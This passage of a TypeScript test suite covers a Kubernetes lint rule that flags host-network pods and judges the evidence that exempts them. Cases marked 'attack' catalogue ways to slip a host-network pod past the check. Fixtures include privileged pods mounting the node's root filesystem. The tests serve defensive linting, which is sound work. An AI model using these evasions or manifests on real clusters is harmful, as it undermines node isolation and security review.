          '(only hostPath `/etc/cni/net.d`, which is not enough). ' + REMOVE,
        ...AT,
      }],
    },
    {
      name: 'a container with no image key (a kustomize patch leaves it out): not refused, checked as usual',
      code: workload('DaemonSet', 'runner', 'ci', `
        containers: [{name: runner, args: [--debug]}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'an infra-pool namespace: a pod Kubernetes refuses as written is an error too (the pool is what it should ask for once filled in)',
      config,
      code: workload('Deployment', 'runner', 'gitlab-runners', `
        containers: [{name: runner, image: null}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/gitlab-runners/runner ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')}`, ...AT }],
    },
    {
      name: "an infra-pool namespace: kube-proxy's port is an error too",
      config: { infraPools: [{ name: 'infra', allowedNamespaces: ['kube-system'] }] },
      code: workload('DaemonSet', 'health-probe-proxy', 'kube-system', `
        containers: [{name: health-probe-proxy, image: x, ports: [{containerPort: 10256}]}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/kube-system/health-probe-proxy ${RISK} Namespace "kube-system" may use infra pool "infra": remove hostNetwork and add ` +
          "`cni.projectcalico.org/ipv4pools: '[\"infra\"]'` under `spec.template.metadata.annotations`. The manifest shows port 10256 in container " +
          "`health-probe-proxy`, kube-proxy's health check port on the node, which does not exempt a pod in a namespace that has an infra pool.",
        ...AT,
      }],
    },
    {
      name: "a DaemonSet's Pod as kubectl prints it: the network-unavailable toleration the controller adds is no evidence",
      code: 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: runner-x7k2p\n  namespace: ci\n  ownerReferences: [{apiVersion: apps/v1, kind: DaemonSet, name: runner, uid: u}]\nspec:\n  hostNetwork: true\n' +
        '  tolerations: [{key: node.kubernetes.io/network-unavailable, operator: Exists, effect: NoSchedule}]\n',
      errors: [{ message: `\`hostNetwork: true\` puts Pod/ci/runner-x7k2p ${RISK} ${NO_POOL}`, line: 8, column: 3, endLine: 8, endColumn: 14 }],
    },
    {
      // The controller adds it to every host-network pod of a DaemonSet: one line that says nothing hostNetwork does not (a Deployment's is kept: exempt above).
      name: "attack: a DaemonSet runner whose template writes the network-unavailable toleration its controller adds anyway",
      code: workload('DaemonSet', 'runner', 'ci', `
        tolerations: [{key: node.kubernetes.io/network-unavailable, operator: Exists, effect: NoSchedule}]
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'a Pod claiming `kubernetes.io/config.source: file` without the mirror annotation is no static pod',
      code: 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: fake\n  namespace: apps\n  annotations: {kubernetes.io/config.source: file}\nspec:\n  hostNetwork: true\n',
      errors: [{ message: `\`hostNetwork: true\` puts Pod/apps/fake ${RISK} ${NO_POOL}`, line: 8, column: 3, endLine: 8, endColumn: 14 }],
    },
    {
      name: 'an infra-pool namespace: an error whatever the evidence, which the message names',
      config,
      code: workload('DaemonSet', 'runner', 'gitlab-runners', `
        priorityClassName: system-cluster-critical
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/runner ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
          'The manifest shows `priorityClassName: system-cluster-critical`, which does not exempt a pod in a namespace that has an infra pool.',
        ...AT,
      }],
    },
    {
      name: 'an infra-pool namespace: a runner pinned to control-plane nodes and let past their taint, or a node observer, is an error too',
      config,
      code: workload('Deployment', 'runner', 'gitlab-runners', `
        nodeSelector: {node-role.kubernetes.io/control-plane: ""}
        tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]
      `) + '---\n' + workload('DaemonSet', 'observer', 'gitlab-runners', `
        hostPID: true
        containers: [{name: c, image: x, volumeMounts: [{name: proc, mountPath: /host/proc}]}]
        volumes: [{name: proc, hostPath: {path: /proc}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts Deployment/gitlab-runners/runner ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
            'The manifest shows pinned to control-plane nodes (`nodeSelector` on `node-role.kubernetes.io/control-plane`) and a toleration of the ' +
            'control-plane taint `node-role.kubernetes.io/control-plane`, which does not exempt a pod in a namespace that has an infra pool.',
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/observer ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
            'The manifest shows `hostPID: true` and hostPath `/proc`, which does not exempt a pod in a namespace that has an infra pool.',
          line: 18, column: 7, endLine: 18, endColumn: 18,
        },
      ],
    },
    {
      name: 'an infra-pool namespace: a node administrator (privileged with hostPID, or with the node\'s root) is an error too',
      config,
      code: workload('DaemonSet', 'installer', 'gitlab-runners', `
        hostPID: true
        initContainers: [{name: install, image: x, securityContext: {privileged: true}}]
      `) + '---\n' + workload('DaemonSet', 'agent', 'ci-builds', `
        containers: [{name: agent, image: x, securityContext: {privileged: true}, volumeMounts: [{name: host, mountPath: /host/host}]}]
        volumes: [{name: host, hostPath: {path: /}}]
      `),
      errors: [
        {
          message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/installer ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
            'The manifest shows `hostPID: true` and `privileged: true` in container `install`, which does not exempt a pod in a namespace that has an infra pool.',
          ...AT,
        },
        {
          message: `\`hostNetwork: true\` puts DaemonSet/ci-builds/agent ${RISK} Namespace "ci-builds" may use infra pool "infra": remove hostNetwork and add ` +
            "`cni.projectcalico.org/ipv4pools: '[\"infra\"]'` under `spec.template.metadata.annotations`. The manifest shows `privileged: true` in container " +
            "`agent` and hostPath `/` (the node's whole root), which does not exempt a pod in a namespace that has an infra pool.",
          line: 18, column: 7, endLine: 18, endColumn: 18,
        },
      ],
    },
    {
      name: 'a HostProcess pod in an infra-pool namespace: never told to remove hostNetwork alone',
      config,
      code: workload('DaemonSet', 'win-runner', 'gitlab-runners', `
        securityContext: {windowsOptions: {hostProcess: true}}
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/gitlab-runners/win-runner ${RISK} Namespace "gitlab-runners" may use infra pool "infra", ` +
          'which a Windows HostProcess pod cannot use: Kubernetes requires hostNetwork on it. Run the workload as an ordinary Windows container ' +
          "(without `hostProcess`, then without hostNetwork) with `cni.projectcalico.org/ipv4pools: '[\"infra\"]'` under " +
          '`spec.template.metadata.annotations`, or list it in `hostNetwork.allow`.',
        ...AT,
      }],
    },
    {
      name: 'allowNodeNetworkComponents: false checks pods with evidence too, without advising to remove hostNetwork',
      config: { hostNetwork: { allowNodeNetworkComponents: false } },
      code: workload('DaemonSet', 'calico-node-windows', 'calico-system', `
        securityContext: {windowsOptions: {hostProcess: true}}
        nodeSelector: {kubernetes.io/os: windows}
        priorityClassName: system-node-critical
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts DaemonSet/calico-system/calico-node-windows ${RISK} Its manifest shows it needs the node's network ` +
          `(${HOST_PROCESS} and \`priorityClassName: system-node-critical\`), but \`hostNetwork.allowNodeNetworkComponents\` is false: ` +
          'list the workload in `hostNetwork.allow`.',
        ...AT,
      }],
    },
  ],
});

describe('no-host-network: a directive on a pod the evidence already exempts', () => {
  it('is unused, and the exemption keeps its own reason', async () => {
    const { unusedSuppression } = await import('../../src/engine/suppressions.js');
    const code = workload('DaemonSet', 'node-local-dns', 'kube-system', `
      containers: [{name: node-cache, image: x, securityContext: {capabilities: {add: [NET_ADMIN]}}}]
    `).replace('    spec:\n', '    metadata:\n      annotations: {calico-lint/disable: "no-host-network -- reviewed"}\n    spec:\n');
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const findings = lintSources([{ filePath: '/repo/test.yaml', text: code }], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.ruleId, f.suppressions?.map((s) => s.kind) ?? null]), [
      ['no-host-network', ['evidence']],
      [unusedSuppression.id, null],
    ]);
  });
});

/** A workload on the pod network: `spec` lines under its pod spec (for a twin of a host-network pod). */
function onPodNetwork(kind: string, name: string, namespace: string, spec: string, controllerSpec = ''): string {
  const lines = (indent: string, text: string) => yaml([text] as unknown as TemplateStringsArray).split('\n').map((line) => indent + line).join('\n');
  if (kind === 'Pod') return `---\napiVersion: v1\nkind: Pod\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n${lines('  ', spec)}\n`;
  const template = kind === 'CronJob' ? '  jobTemplate:\n    spec:\n      template:\n        spec:\n' : '  template:\n    spec:\n';
  const indent = kind === 'CronJob' ? '          ' : '      ';
  const own = controllerSpec === '' ? '' : lines('  ', controllerSpec) + '\n';
  const apiVersion = kind === 'Job' || kind === 'CronJob' ? 'batch/v1' : 'apps/v1';
  return `---\napiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: {name: ${name}, namespace: ${namespace}}\nspec:\n${own}${template}${lines(indent, spec)}\n`;
}

const TWIN = (shown: string) => `the same images and commands on the pod network in ${shown} (a pod-network twin: the host network is what it tests)`;
const AGNHOST = 'registry.k8s.io/e2e-test-images/agnhost:2.43';

exemptTable([
  {
    name: "Cilium's connectivity check (kubermatic's canal e2e): echo-b-host serves 8180 on the host network, echo-b 8080 on the pod network; the closest name is named",
    code: workload('Deployment', 'echo-b-host', 'default', `
      containers: [{name: echo-b-host-container, image: ${AGNHOST}, args: [serve-hostname, --port, "8180"], ports: [{containerPort: 8180, hostPort: 8180}]}]
    `) + onPodNetwork('Deployment', 'echo-a', 'default', `
      containers: [{name: echo-a-container, image: ${AGNHOST}, args: [serve-hostname, --port, "8080"]}]
    `) + onPodNetwork('Deployment', 'echo-b', 'default', `
      containers: [{name: echo-b-container, image: ${AGNHOST}, args: [serve-hostname, --port, "8080"]}]
    `),
    evidence: TWIN('Deployment `echo-b`'),
  },
  {
    name: "Azure CNI's toolbox: the same image with no command, init containers alike; a twin that is a Job in another namespace is named with it",
    code: workload('DaemonSet', 'agent-8085-host', 'default', `
      initContainers: [{name: wait, image: busybox, command: [sh, -c, "sleep 5"]}]
      containers: [{name: agent, image: acnpublic.azurecr.io/toolbox:latest, env: [{name: TCP_PORT, value: "8085"}]}]
    `) + onPodNetwork('Job', 'agent-8085', 'tests', `
      initContainers: [{name: wait, image: busybox, command: [sh, -c, "sleep 5"]}]
      containers: [{name: agent, image: acnpublic.azurecr.io/toolbox:latest, env: [{name: TCP_PORT, value: "9000"}]}]
    `),
    evidence: TWIN('Job `agent-8085` in namespace `tests`'),
  },
  {
    name: "Azure CNI's toolbox with its placement (agents.yaml): the twin pinned as the host copy is, or less (its nodeSelector's entries are the host copy's), with the same service account, requests and a system priority",
    code: workload('Deployment', 'agent-pod-8085-tcp-host', 'default', `
      nodeSelector: {kubernetes.io/os: linux, kubernetes.io/role: agent}
      serviceAccountName: toolbox
      affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{labelSelector: {matchLabels: {app: agent}}, topologyKey: kubernetes.io/hostname}]}}
      containers: [{name: agent, image: acnpublic.azurecr.io/toolbox:latest, resources: {requests: {cpu: 10m}}}]
    `) + onPodNetwork('Deployment', 'agent-pod-8085-tcp', 'default', `
      nodeSelector: {kubernetes.io/role: agent}
      serviceAccountName: toolbox
      priorityClassName: system-cluster-critical
      schedulerName: default-scheduler
      affinity: {podAntiAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{topologyKey: kubernetes.io/hostname, labelSelector: {matchLabels: {app: agent}}}]}}
      containers: [{name: agent, image: acnpublic.azurecr.io/toolbox:latest, resources: {requests: {cpu: 10m}, limits: {cpu: 100m}}, volumeMounts: [{name: tmp, mountPath: /tmp}]}]
      volumes: [{name: tmp, emptyDir: {}}]
    `),
    evidence: TWIN('Deployment `agent-pod-8085-tcp`'),
  },
  {
    name: 'a twin is named only when nothing else decides: NET_ADMIN comes first',
    code: workload('DaemonSet', 'prober-host', 'net', `
      containers: [{name: probe, image: x, command: [probe], securityContext: {capabilities: {add: [NET_ADMIN]}}}]
    `) + onPodNetwork('Pod', 'prober', 'net', `
      containers: [{name: probe, image: x, command: [probe]}]
    `),
    evidence: 'capability `NET_ADMIN` in container `probe`',
  },
]);

describe('no-host-network: attack: a bare Pod in a folder named like the kubelet\'s that refers to API objects is no static pod', () => {
  // The kubelet never starts a static pod with a Secret, ConfigMap, claim or token: the API server refuses its mirror pod,
  // so the node may not read them. Such a Pod runs only when created through the API server (`kubectl apply -f ci/`).
  const runner = (spec: string) => workload('Pod', 'runner', 'ci', spec);
  const cases = {
    'a Secret volume': `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, volumeMounts: [{name: token, mountPath: /etc/gitlab-runner}]}]
      volumes: [{name: token, secret: {secretName: runner-token}}]
    `,
    'a projected service account token': `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, volumeMounts: [{name: token, mountPath: /var/run/secrets/tokens}]}]
      volumes: [{name: token, projected: {sources: [{serviceAccountToken: {path: token}}]}}]
    `,
    'an env value from a Secret': `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: runner, key: token}}}]}]
    `,
    'env from a ConfigMap, in an init container': `
      initContainers: [{name: register, image: gitlab/gitlab-runner:v17.0.0, envFrom: [{configMapRef: {name: runner}}]}]
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
    `,
  };
  for (const [name, spec] of Object.entries(cases)) {
    it(`${name}: an error`, () => {
      const findings = lintOne(noHostNetwork, runner(spec), {}, '/repo/ci/etc/kubernetes/manifests/runner.yaml');
      assert.deepEqual(findings.map((f) => ({ message: f.message, suppressed: f.suppressions !== undefined })), [{
        message: `\`hostNetwork: true\` puts Pod/ci/runner ${RISK} ${NO_POOL}`,
        suppressed: false,
      }]);
    });
  }
});

describe('no-host-network: a pod-network twin in another file is none', () => {
  it('the host-network pod stays an error', async () => {
    const { lintSources } = await import('../../src/lint.js');
    const { makeConfig } = await import('../helpers/rule-tester.js');
    const host = workload('Deployment', 'runner-host', 'ci', `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, command: [gitlab-runner, run]}]
    `);
    const twin = onPodNetwork('Deployment', 'runner', 'ci', `
      containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, command: [gitlab-runner, run]}]
    `);
    const findings = lintSources([{ filePath: '/repo/host.yaml', text: host }, { filePath: '/repo/twin.yaml', text: twin }], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(findings.map((f) => [f.filePath, f.message, f.suppressions ?? null]), [
      ['/repo/host.yaml', `\`hostNetwork: true\` puts Deployment/ci/runner-host ${RISK} ${NO_POOL}`, null],
    ]);
    // The same two documents in one stream: a twin.
    const together = lintSources([{ filePath: '<stdin>', text: host + twin }], { config: makeConfig(), rules: [noHostNetwork] });
    assert.deepEqual(together.map((f) => f.suppressions?.[0]?.justification), [`needs the node's network: ${TWIN('Deployment `runner`')}`]);
  });
});

ruleTester(noHostNetwork, {
  valid: [
    {
      name: 'no host-network pod: twins on the pod network are nothing to report',
      code: onPodNetwork('Deployment', 'echo', 'default', `
        containers: [{name: echo, image: ${AGNHOST}, args: [--port=8080]}]
      `) + onPodNetwork('StatefulSet', 'echo-2', 'default', `
        containers: [{name: echo, image: ${AGNHOST}, args: [--port=8180]}]
      `),
    },
  ],
  invalid: [
    {
      name: 'no twin: another image, another command, another number of containers, args that differ in more than numbers (a shell script)',
      code: workload('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: busybox:1.36, command: [sh, -c], args: ["./run-ci-job.sh --jobs 4"]}]
      `) + onPodNetwork('Deployment', 'other-image', 'ci', `
        containers: [{name: runner, image: busybox:1.37, command: [sh, -c], args: ["./run-ci-job.sh --jobs 4"]}]
      `) + onPodNetwork('Deployment', 'other-command', 'ci', `
        containers: [{name: runner, image: busybox:1.36, command: [/bin/sh, -c], args: ["./run-ci-job.sh --jobs 4"]}]
      `) + onPodNetwork('Deployment', 'sidecar', 'ci', `
        containers: [{name: runner, image: busybox:1.36, command: [sh, -c], args: ["./run-ci-job.sh --jobs 4"]}, {name: s, image: envoy}]
      `) + onPodNetwork('Deployment', 'sleeper', 'ci', `
        containers: [{name: runner, image: busybox:1.36, command: [sh, -c], args: ["sleep 4"]}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'no twin: one that runs nothing (a PodTemplate, a Deployment scaled to zero, a suspended CronJob, a Pod the API server refuses), or itself on the host network',
      code: workload('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'idle', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'replicas: 0') + onPodNetwork('CronJob', 'never', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'suspend: true') + onPodNetwork('Pod', 'refused', 'ci', `
        hostNetwork: "false"
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + '---\napiVersion: v1\nkind: PodTemplate\nmetadata: {name: t, namespace: ci}\ntemplate:\n  spec:\n' +
        '    containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]\n' + onPodNetwork('DaemonSet', 'runner-2', 'ci', `
        hostNetwork: true
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `),
      errors: [
        { message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, ...AT },
        { message: `\`hostNetwork: true\` puts DaemonSet/ci/runner-2 ${RISK} ${NO_POOL}`, line: 54, column: 7, endLine: 54, endColumn: 18 },
      ],
    },
    {
      // Each copy below is as visible as a running twin, but runs nothing: the host-network runner was exempt with exit 0.
      name: 'attack: no twin that runs nothing in another way (a paused Deployment, a Job of zero completions, a CronJob whose job template runs nothing, gated pods, a version no API server serves)',
      code: workload('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'paused', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'paused: true') + onPodNetwork('Job', 'none', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'completions: 0') + onPodNetwork('CronJob', 'cron-idle', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'schedule: "* * * * *"').replace('  jobTemplate:\n    spec:\n', '  jobTemplate:\n    spec:\n      parallelism: 0\n') +
        onPodNetwork('Pod', 'gated', 'ci', `
        schedulingGates: [{name: example.com/never}]
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('StatefulSet', 'old', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `).replace('apiVersion: apps/v1', 'apiVersion: apps/v1beta2'),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'attack: no twin that may never run: pinned where the host copy is not (a nodeSelector, nodeName or required affinity no node may match), another scheduler, priority class, runtime class or service account, requests no node may hold, an image never pulled, a deadline, a mount of no volume, a security context the kubelet refuses',
      code: workload('DaemonSet', 'runner', 'ci', `
        nodeSelector: {kubernetes.io/os: linux}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('DaemonSet', 'selector', 'ci', `
        nodeSelector: {kubernetes.io/os: linux, example.com/never: "true"}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'node-name', 'ci', `
        nodeName: no-such-node
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'affinity', 'ci', `
        affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: example.com/never, operator: Exists}]}]}}}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'pod-affinity', 'ci', `
        affinity: {podAffinity: {requiredDuringSchedulingIgnoredDuringExecution: [{labelSelector: {matchLabels: {app: nothing}}, topologyKey: kubernetes.io/hostname}]}}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'scheduler', 'ci', `
        schedulerName: nobody
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'priority', 'ci', `
        priorityClassName: no-such-class
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'runtime', 'ci', `
        runtimeClassName: no-such-runtime
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'account', 'ci', `
        serviceAccountName: no-such-account
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'requests', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, resources: {requests: {cpu: "100000"}}}]
      `) + onPodNetwork('Deployment', 'never-pulled', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, imagePullPolicy: Never}]
      `) + onPodNetwork('Pod', 'deadline', 'ci', `
        activeDeadlineSeconds: 1
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'refused', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, volumeMounts: [{name: ghost, mountPath: /ghost}]}]
      `) + onPodNetwork('Deployment', 'not-root', 'ci', `
        securityContext: {runAsNonRoot: true, runAsUser: 0}
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'seccomp', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0, securityContext: {seccompProfile: {type: Localhost, localhostProfile: no-such-profile.json}}}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts DaemonSet/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'attack: no twin that is the same object (kind, namespace and name): `kubectl apply` applies one over the other, and one Deployment runs, on the host network if it is applied last',
      code: onPodNetwork('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `).slice(4) + '---\n' + workload('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, line: 16, column: 7, endLine: 16, endColumn: 18 }],
    },
    {
      name: 'no twin: a count or flag the API server cannot decode (replicas: "1", parallelism: "1", suspend: "false") makes it refuse the twin',
      code: workload('Deployment', 'runner', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'quoted', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'replicas: "1"') + onPodNetwork('Job', 'quoted-job', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'parallelism: "1"') + onPodNetwork('CronJob', 'quoted-cron', 'ci', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `, 'suspend: "false"'),
      errors: [{ message: `\`hostNetwork: true\` puts Deployment/ci/runner ${RISK} ${NO_POOL}`, ...AT }],
    },
    {
      name: 'no twin: images missing (a kustomize patch) or programs that expand variables from env, which is not compared',
      code: workload('Deployment', 'patch', 'ci', `
        containers: [{name: runner, args: [--debug]}]
      `) + onPodNetwork('Deployment', 'patch-twin', 'ci', `
        containers: [{name: runner, args: [--debug]}]
      `) + workload('Deployment', 'script', 'ci', `
        containers: [{name: runner, image: busybox, command: [sh, -c, "$(SCRIPT)"], env: [{name: SCRIPT, value: ./run-ci-job.sh}]}]
      `).replace(/^/, '---\n') + onPodNetwork('Deployment', 'script-twin', 'ci', `
        containers: [{name: runner, image: busybox, command: [sh, -c, "$(SCRIPT)"], env: [{name: SCRIPT, value: sleep 1}]}]
      `),
      errors: [
        { message: `\`hostNetwork: true\` puts Deployment/ci/patch ${RISK} ${NO_POOL}`, ...AT },
        { message: `\`hostNetwork: true\` puts Deployment/ci/script ${RISK} ${NO_POOL}`, line: 26, column: 7, endLine: 26, endColumn: 18 },
      ],
    },
    {
      name: 'an infra-pool namespace: a CI runner with a pod-network twin is an error, which names the twin',
      config,
      code: workload('Deployment', 'runner-host', 'gitlab-runners', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `) + onPodNetwork('Deployment', 'runner', 'gitlab-runners', `
        containers: [{name: runner, image: gitlab/gitlab-runner:v17.0.0}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/gitlab-runners/runner-host ${RISK} ${ANNOTATION_HINT('spec.template.metadata.annotations')} ` +
          `The manifest shows ${TWIN('Deployment `runner`')}, which does not exempt a pod in a namespace that has an infra pool.`,
        ...AT,
      }],
    },
    {
      name: 'allowNodeNetworkComponents: false: a twin exempts nothing either',
      config: { hostNetwork: { allowNodeNetworkComponents: false } },
      code: workload('Deployment', 'echo-host', 'default', `
        containers: [{name: echo, image: ${AGNHOST}}]
      `) + onPodNetwork('Deployment', 'echo', 'default', `
        containers: [{name: echo, image: ${AGNHOST}}]
      `),
      errors: [{
        message: `\`hostNetwork: true\` puts Deployment/default/echo-host ${RISK} Its manifest shows it needs the node's network ` +
          `(${TWIN('Deployment `echo`')}), but \`hostNetwork.allowNodeNetworkComponents\` is false: list the workload in \`hostNetwork.allow\`.`,
        ...AT,
      }],
    },
  ],
});

describe('no-host-network: a containerless fragment beside the one workload it can patch (src/resources/kustomize-patch-verdict.ts)', () => {
  const full = workload('DaemonSet', 'agent', 'kube-system', `
    volumes: [{name: state, hostPath: {path: /var/lib/calico}}]
    tolerations: [{operator: Exists}]
    containers: [{name: agent, image: example/agent:v1, volumeMounts: [{name: state, mountPath: /state}]}]
  `);
  const fragment = 'apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: agent, namespace: kube-system}\nspec:\n  template:\n    spec:\n      hostNetwork: true\n      dnsPolicy: ClusterFirstWithHostNet\n';
  const evidence = 'hostPath `/var/lib/calico` and a toleration of every taint (`operator: Exists` without a key)';

  it('is judged on that workload, patched: exempt, naming it', () => {
    const findings = lintOne(noHostNetwork, `${fragment}---\n${full}`, {}, '/repo/agent/all.yaml');
    const onFragment = findings.filter((finding) => finding.range.line === 7);
    assert.deepEqual(onFragment.map((f) => ({ message: f.message, suppressions: f.suppressions, ...rangeOf(f.range) })), [{
      message: '`hostNetwork: true` is in a pod template without containers that no kustomization in the files read applies: a patch, which ' +
        '`kubectl patch --patch-file` can only apply to DaemonSet `agent` in `all.yaml` (the API server refuses a patch that renames the object). ' +
        `Patched, it needs the node's network: ${evidence}.`,
      suppressions: [{ kind: 'evidence', justification: `a patch of DaemonSet \`agent\` in \`all.yaml\`, which needs the node's network: ${evidence}` }],
      ...AT,
    }]);
  });

  it('a fragment that deletes the evidence it would land in is judged as written: an error', () => {
    const stripping = `${fragment}      volumes: [{name: state, $patch: delete}]\n`;
    const findings = lintOne(noHostNetwork, `${stripping}---\n${full}`, {}, '/repo/agent/all.yaml').filter((finding) => finding.range.line === 7);
    assert.equal(findings.length, 1);
    assert.equal(findings[0]!.suppressions, undefined);
    assert.equal(findings[0]!.message, `\`hostNetwork: true\` puts DaemonSet/kube-system/agent ${RISK} ${NO_POOL}`);
  });
});

/** The GCE PD CSI driver's node plugin: privileged, with the kubelet's folders, running the driver image with flags only. */
const NODE_PLUGIN = (namespace: string, image = 'gke.gcr.io/gcp-compute-persistent-disk-csi-driver:v1.15.0') => workload('DaemonSet', 'csi-gce-pd-node', namespace, `
  containers:
    - {name: csi-driver-registrar, image: registry.k8s.io/sig-storage/csi-node-driver-registrar:v2.9.3, args: [--csi-address=/csi/csi.sock]}
    - name: gce-pd-driver
      image: '${image}'
      args: [--v=5, --endpoint=unix:/csi/csi.sock, --run-controller-service=false]
      securityContext: {privileged: true}
      volumeMounts: [{name: kubelet-dir, mountPath: /var/lib/kubelet}]
  volumes: [{name: kubelet-dir, hostPath: {path: /var/lib/kubelet}}]
`);
const NODE_PLUGIN_EXEMPT = '`privileged: true` in container `gce-pd-driver` and hostPath `/var/lib/kubelet`';

/** The GCE PD CSI controller: on the host network, no mark of its own; its driver container writes the executable. */
const CONTROLLER = (namespace: string, driver: string) => workload('Deployment', 'csi-gce-pd-controller', namespace, `
  priorityClassName: csi-gce-pd-controller
  containers:
    - {name: csi-provisioner, image: registry.k8s.io/sig-storage/csi-provisioner:v5.1.0, args: [--csi-address=/csi/csi.sock]}
    - ${driver}
`);
const DRIVER = "{name: gce-pd-driver, image: 'gke.gcr.io/gcp-compute-persistent-disk-csi-driver:v1.15.0', command: [/gce-pd-csi-driver], args: [--v=5, --run-node-service=false]}";

const NODE_CRITICAL_EXEMPT = '`priorityClassName: system-node-critical`';

const COMPANION = (place: string, how = 'is privileged', exempt = NODE_PLUGIN_EXEMPT) =>
  `container \`gce-pd-driver\` runs the program of container \`gce-pd-driver\` of DaemonSet \`csi-gce-pd-node\` (${place}), which ${how} ` +
  `(a companion of a node component, itself exempt on ${exempt})`;

